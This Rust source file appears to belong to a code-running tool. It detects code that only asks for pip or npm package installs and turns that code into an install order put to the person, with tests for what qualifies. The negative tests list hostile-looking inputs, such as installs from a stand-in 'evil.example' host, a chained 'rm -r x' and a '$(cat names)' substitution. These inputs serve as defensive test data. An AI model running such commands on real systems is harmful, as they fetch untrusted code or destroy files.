//! Code that does nothing but ask for packages: `pip install pandas`.
//!
//! Such code is not run: it would fail in a sandbox, or install something that is gone with it. It
//! is taken as an order, about which the person is asked. Only the plainest forms are; anything
//! else is code like any other.

use super::{PackageChange, PackageKind, PackageOrder, Requirement};
use crate::Language;

/// Bytes of code that is looked at.
const LONGEST: usize = 4096;

/// Options that change nothing here: how much is printed, and where things go.
const IDLE: &[&str] = &[
    "-q",
    "--quiet",
    "-qq",
    "-U",
    "--upgrade",
    "--user",
    "--no-cache-dir",
    "-y",
    "--yes",
    "--break-system-packages",
    "--disable-pip-version-check",
    "--no-input",
    "--prefer-binary",
    "--only-binary=:all:",
    "--save",
    "-S",
    "--no-audit",
    "--no-fund",
    "--silent",
    "--no-save",
    "--system",
];

/// Commands that install, each with the kind of packages.
const COMMANDS: &[(&[&str], PackageKind)] = &[
    (&["pip", "install"], PackageKind::Python),
    (&["pip3", "install"], PackageKind::Python),
    (&["python", "-m", "pip", "install"], PackageKind::Python),
    (&["python3", "-m", "pip", "install"], PackageKind::Python),
    (&["uv", "pip", "install"], PackageKind::Python),
    (&["npm", "install"], PackageKind::Npm),
    (&["npm", "i"], PackageKind::Npm),
    (&["npm", "add"], PackageKind::Npm),
];

/// The order in code that is nothing but one.
pub fn requested(language: &Language, code: &str) -> Option<PackageOrder> {
    let marks: &[char] = match language.name() {
        "python" => &['!', '%'],
        "shell" => &[],
        _ => return None,
    };
    if code.len() > LONGEST {
        return None;
    }
    let mut packages: Vec<Requirement> = Vec::new();
    let lines = code.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#'));
    for line in lines {
        let line = line.strip_prefix(marks).unwrap_or(line);
        for command in line.split("&&") {
            packages.extend(in_command(command)?);
        }
    }
    let mut seen = Vec::new();
    packages.retain(|one| {
        let is_new = !seen.contains(&one.normal_name());
        seen.push(one.normal_name());
        is_new
    });
    PackageOrder::new(PackageChange::Install, packages)
}

/// The packages of one command; `None` if it is another command, or has more to say.
fn in_command(command: &str) -> Option<Vec<Requirement>> {
    let words: Vec<_> = command.split_whitespace().collect();
    let (rest, kind) =
        COMMANDS.iter().find_map(|(start, kind)| Some((words.strip_prefix(*start)?, *kind)))?;
    let mut packages = Vec::new();
    for word in rest.iter().filter(|word| !IDLE.contains(*word)) {
        packages.push(Requirement::parse(kind, unquoted(word)).ok()?);
    }
    (!packages.is_empty()).then_some(packages)
}

/// A word without the quotes around it.
fn unquoted(word: &str) -> &str {
    ['\'', '"']
        .iter()
        .find_map(|quote| word.strip_prefix(*quote)?.strip_suffix(*quote))
        .unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::language;

    fn order(language: &str, code: &str) -> Option<String> {
        let language = language::example().find(language).unwrap();
        requested(&language, code).map(|order| format!("{} {}", order.kind, order.words()))
    }

    #[test]
    fn plain_requests_are_orders() {
        for (language, code, expected) in [
            ("shell", "pip install pandas", "python pandas"),
            ("shell", "# first\npip3 install -q pandas 'numpy>=2'\n", "python pandas and numpy>=2"),
            ("shell", "python -m pip install --user pandas", "python pandas"),
            (
                "shell",
                "uv pip install polars && pip install Polars duckdb",
                "python polars and duckdb",
            ),
            ("shell", "npm install lodash @types/node", "npm lodash and @types/node"),
            ("python", "%pip install pandas", "python pandas"),
            ("python", "!pip install pandas\n\n!pip install seaborn", "python pandas and seaborn"),
            ("python", "pip install pandas", "python pandas"),
        ] {
            assert_eq!(order(language, code).as_deref(), Some(expected), "{code}");
        }
    }

    #[test]
    fn anything_more_is_code_like_any_other() {
        for (language, code) in [
            ("shell", "pip install pandas; rm -r x"),
            ("shell", "pip install pandas && python x.py"),
            ("shell", "pip install -r requirements.txt"),
            ("shell", "pip install --index-url=https://evil.example/ pandas"),
            ("shell", "pip install git+https://evil.example/x"),
            ("shell", "pip install ./x"),
            ("shell", "pip install $(cat names)"),
            ("shell", "pip install 'a b'"),
            ("shell", "pip install"),
            ("shell", "npm install"),
            ("shell", "sudo pip install pandas"),
            ("shell", "!pip install pandas"),
            ("shell", "pip install pandas > log"),
            ("python", "%pip install pandas\nimport pandas"),
            ("python", "x = '''\n%pip install pandas\n'''"),
            ("javascript", "npm install lodash"),
            ("shell", ""),
        ] {
            assert_eq!(order(language, code), None, "{code}");
        }
    }
}
